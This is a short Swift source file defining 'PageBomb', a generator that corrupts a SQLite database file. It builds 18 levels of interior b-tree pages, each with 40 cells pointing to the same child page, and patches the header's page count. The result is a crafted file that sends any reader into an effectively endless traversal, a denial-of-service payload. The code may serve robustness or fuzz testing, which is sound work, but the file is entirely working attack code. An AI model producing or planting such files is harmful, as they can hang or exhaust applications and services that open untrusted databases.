import Foundation

/// A b-tree whose inner pages name the same page below them over and over. https://sqlite.org/fileformat2.html
enum PageBomb {
  static func make(_ file: Data, rootOf root: Int) -> Data {
    let size = 4096
    var file = file
    let pages = file.count / size
    let levels = 18
    let old = page(file, root, size)
    guard old[0] == 2 || old[0] == 5 || old[0] == 10 || old[0] == 13 else { return file }
    let isTable = old[0] == 5 || old[0] == 13
    let cell = isTable ? Data([1]) : Data([2, 1, 0])
    for level in 0..<levels {
      let inner = inner(isTable ? 5 : 2, below: pages + level + 2, cell, size)
      if level == 0 { put(inner, at: root, in: &file, size) }
      file.append(level + 1 == levels ? old : inner)
    }
    var count = UInt32(file.count / size).bigEndian
    withUnsafeBytes(of: &count) { file.replaceSubrange(28..<32, with: $0) }
    return file
  }

  private static func page(_ file: Data, _ number: Int, _ size: Int) -> Data {
    file.subdata(in: (number - 1) * size..<number * size)
  }

  private static func put(_ page: Data, at number: Int, in file: inout Data, _ size: Int) {
    file.replaceSubrange((number - 1) * size..<number * size, with: page)
  }

  private static func inner(_ kind: UInt8, below: Int, _ payload: Data, _ size: Int) -> Data {
    var page = Data(count: size)
    let cells = 40
    page[0] = kind
    page[4] = UInt8(cells)
    var child = UInt32(below).bigEndian
    let pointer = withUnsafeBytes(of: &child) { Data($0) }
    page.replaceSubrange(8..<12, with: pointer)
    var end = size
    for index in 0..<cells {
      let cell = pointer + payload
      end -= max(cell.count, 8)
      page.replaceSubrange(end..<end + cell.count, with: cell)
      page[12 + 2 * index] = UInt8(end >> 8)
      page[13 + 2 * index] = UInt8(end & 255)
    }
    page[5] = UInt8(end >> 8)
    page[6] = UInt8(end & 255)
    return page
  }
}
